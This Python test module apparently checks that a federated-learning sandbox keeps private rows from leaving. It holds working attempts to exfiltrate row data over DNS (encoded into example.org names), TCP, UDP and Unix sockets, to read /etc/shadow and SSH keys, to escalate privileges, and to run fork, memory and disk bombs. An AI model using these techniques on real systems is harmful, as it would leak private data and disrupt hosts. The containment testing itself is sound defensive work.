"""The attempts; each yields what it tried and how it was refused, and raises when it got through."""

import os
import signal
import socket
import subprocess
from collections.abc import Callable, Iterator

import numpy as np

Tries = Iterator[tuple[str, str]]


class GotOut(Exception):
    """Something left, or was reached, that must not be."""


def rows(folder: str) -> np.ndarray:
    """The site's rows, of which nothing but sums may leave."""
    cohort = os.path.join(folder, "cohort.csv")
    if os.path.exists(cohort):
        return np.loadtxt(cohort, delimiter=",", skiprows=1)[:, :-1]
    return np.loadtxt(os.path.join(folder, "rows.csv"), delimiter=",")


def refused(name: str, attempt: Callable[[], object]) -> tuple[str, str]:
    """How the attempt was refused."""
    try:
        got = attempt()
    except (OSError, subprocess.SubprocessError) as error:
        return name, f"{type(error).__name__} {error}"
    raise GotOut(f"{name}: {got!r}"[:200])


def connect(family: int, kind: int, address: object, data: bytes = b"") -> str:
    with socket.socket(family, kind) as out:
        out.settimeout(3)
        out.connect(address)
        out.sendall(data)
        if kind == socket.SOCK_DGRAM:
            out.recv(1)
    return f"reached {address}"


def dns(data: np.ndarray, target: dict) -> Tries:
    name = "x".join(str(int(v)) for v in data[0]) + ".example.org"
    yield refused("resolver of the system", lambda: socket.getaddrinfo(name, 80))
    for server in ("127.0.0.53", "8.8.8.8", "127.0.0.1"):
        yield refused(f"query to {server}", lambda server=server: connect(
            socket.AF_INET, socket.SOCK_DGRAM, (server, 53), b"\0\1\1\0\0\1\0\0\0\0\0\0\1x\0\0\1\0\1"))


def tcp(data: np.ndarray, target: dict) -> Tries:
    for host, port in target["tcp"]:
        yield refused(f"{host}:{port}", lambda host=host, port=port: connect(
            socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, port), data.tobytes()))


def udp(data: np.ndarray, target: dict) -> Tries:
    for host, port in target["udp"]:
        yield refused(f"{host}:{port}", lambda host=host, port=port: connect(
            socket.AF_INET, socket.SOCK_DGRAM, (host, port), data.tobytes()[:512]))


def unix(data: np.ndarray, target: dict) -> Tries:
    yield refused("abstract socket", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + target["abstract"], data.tobytes()))
    for path in target["sockets"]:
        yield refused(path, lambda path=path: connect(socket.AF_UNIX, socket.SOCK_STREAM, path, data.tobytes()))
    yield refused("vsock", lambda: connect(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1234)))
    yield refused("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    yield refused("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))


def files(data: np.ndarray, target: dict) -> Tries:
    for path in target["secrets"]:
        yield refused(f"read {path}", lambda path=path: open(path, "rb").read())
    for path in ("/etc/shadow", "/etc/hostname", "/root/.ssh", "/home", "/var", "/sys", "/mnt"):
        yield refused(f"read {path}", lambda path=path: os.listdir(path) if not path.startswith("/etc") else open(path).read())
    for path in ("/data/rows.csv", "/data/out.csv", "/usr/out.csv", "/run/agent/out.csv", "/out.csv", *target["written"]):
        yield refused(f"write {path}", lambda path=path: open(path, "ab").write(data.tobytes()))
    yield refused("remount", lambda: subprocess.run(["mount", "-o", "remount,rw", "/data"], check=True, capture_output=True))
    yield refused("new user namespace", lambda: subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True))


def processes(data: np.ndarray, target: dict) -> Tries:
    for pid in target["processes"]:
        seen = [p for p in os.listdir("/proc") if p.isdigit()]
        command = b"".join(open(f"/proc/{p}/cmdline", "rb").read() for p in seen)
        if target["marker"].encode() in command:
            raise GotOut("the agent's command line")
        if len(seen) > 8:
            raise GotOut(f"{len(seen)} processes are seen")
        if str(pid) not in seen:
            yield refused(f"signal {pid}", lambda pid=pid: os.kill(pid, signal.SIGTERM))
            yield refused(f"memory of {pid}", lambda pid=pid: open(f"/proc/{pid}/mem", "rb").read(1))
    yield refused("the sandbox's first process", lambda: os.kill(1, signal.SIGKILL))
    yield refused("root", lambda: os.setuid(0))


def fork_bomb(data: np.ndarray, target: dict) -> Tries:
    """In a program of its own, so that Flower's threads are not copied with it."""
    program = "\n".join((
        "import os, signal, sys",
        "n = 0",
        "try:",
        "    while n < 5000:",
        "        if os.fork() == 0: signal.pause()",
        "        n += 1",
        "except OSError as error:",
        "    print(n, type(error).__name__, flush=True)",
        "os.killpg(0, signal.SIGKILL)",
    ))
    bomb = subprocess.run(["python", "-I", "-c", program], start_new_session=True, capture_output=True, text=True)
    count, _, error = bomb.stdout.strip().partition(" ")
    if not error:
        raise GotOut(f"{count or 5000} processes")
    yield f"after {count} processes", error


def memory_bomb(data: np.ndarray, target: dict) -> Tries:
    held = []
    for _ in range(target["memoryMiB"] + 64):
        held.append(b"\1" * (1 << 20))
    raise GotOut(f"{len(held)} MiB")
    yield


def disk_bomb(data: np.ndarray, target: dict) -> Tries:
    written = 0
    try:
        with open("/tmp/filled", "wb") as out:
            for _ in range(target["memoryMiB"] + 64):
                out.write(b"\1" * (1 << 20))
                out.flush()
                written += 1
    except OSError as error:
        yield f"after {written} MiB", f"{type(error).__name__} {error}"
        os.unlink("/tmp/filled")
        return
    raise GotOut(f"{written} MiB in /tmp")


WAYS = {
    "dns": dns,
    "tcp": tcp,
    "udp": udp,
    "unix": unix,
    "files": files,
    "processes": processes,
    "fork-bomb": fork_bomb,
    "memory-bomb": memory_bomb,
    "disk-bomb": disk_bomb,
}
